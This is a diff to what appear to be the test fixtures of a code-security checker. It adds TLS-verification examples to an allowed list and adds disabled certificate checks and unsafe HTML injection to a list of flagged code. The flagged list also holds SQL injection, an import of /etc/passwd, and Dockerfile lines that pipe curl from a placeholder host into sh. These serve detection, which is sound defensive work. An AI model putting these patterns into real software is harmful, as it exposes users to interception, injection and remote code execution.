@@ -131,6 +131,10 @@ fn main() {
         "js", 'await pool.query({ text: "SELECT * FROM t WHERE id = $1", values: [id] });'
     ),
     "rust sqlite with parameters": _block("rust", 'conn.execute("INSERT INTO t (n) VALUES (?1)", params![n])?;'),
+    "go verification kept on": _block(
+        "go", "cfg := &tls.Config{InsecureSkipVerify: false, MinVersion: tls.VersionTLS12}"
+    ),
+    "rust peer verified": _block("rust", "builder.set_verify(SslVerifyMode::PEER);"),
     "ts module in the project": _block("ts", 'import { parse } from "../lib/parse";'),
     "dockerfile multi-stage": _block(
         "dockerfile",
@@ -214,6 +218,15 @@ HELD = {
     "js execute of a template": _block("js", "conn.execute(`DELETE FROM t WHERE id = ${id}`);"),
     "js module outside the project": _block("js", 'import x from "/etc/passwd";'),
     "dockerfile shell running a script": _block("dockerfile", 'FROM alpine\nSHELL ["/bin/sh", "/tmp/wrap.sh"]'),
+    "rust hostnames unchecked": _block(
+        "rust", "let c = Client::builder().danger_accept_invalid_hostnames(true).build()?;"
+    ),
+    "rust peer unverified": _block("rust", "builder.set_verify(SslVerifyMode::NONE);"),
+    "rust rustls verifier replaced": _block(
+        "rust",
+        "let cfg = ClientConfig::builder().dangerous().with_custom_certificate_verifier(v).with_no_client_auth();",
+    ),
+    "tsx html set from a value": _block("tsx", "<div dangerouslySetInnerHTML={{ __html: html }} />"),
     "dockerfile curl | sh": _block("dockerfile", "FROM alpine:3.20\nRUN curl https://x.example/i.sh | sh"),
     "dockerfile exec form sh -c": _block(
         "dockerfile", 'FROM alpine\nRUN ["sh", "-c", "curl https://get.tools.io/x | sh"]'
